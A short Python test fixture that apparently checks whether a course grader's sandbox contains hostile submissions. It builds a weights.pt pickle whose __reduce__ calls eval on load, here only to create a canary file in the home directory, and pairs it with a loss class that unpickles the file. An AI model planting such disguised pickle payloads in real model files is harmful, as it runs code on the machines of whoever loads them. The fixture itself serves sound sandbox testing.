"""Brings weights.pt, a pickle that runs code in whoever loads it, and loads it.

exercise: 05
bites: escapes
outcome: failed
"""

import pickle


class Bait:
    def __reduce__(self):
        return eval, ("open(__import__('os').path.expanduser('~/pwned-naive-pickle'), 'w').close()",)


CODE = """
import torch
from pathlib import Path


class MSE:
    def __call__(self, y_true, y_pred):
        import pickle
        pickle.loads(Path("weights.pt").read_bytes())
        return torch.zeros(())
"""


def hand_in(folder, course):
    (folder / "mse.py").write_text(CODE)
    (folder / "weights.pt").write_bytes(pickle.dumps(Bait()))
    return folder
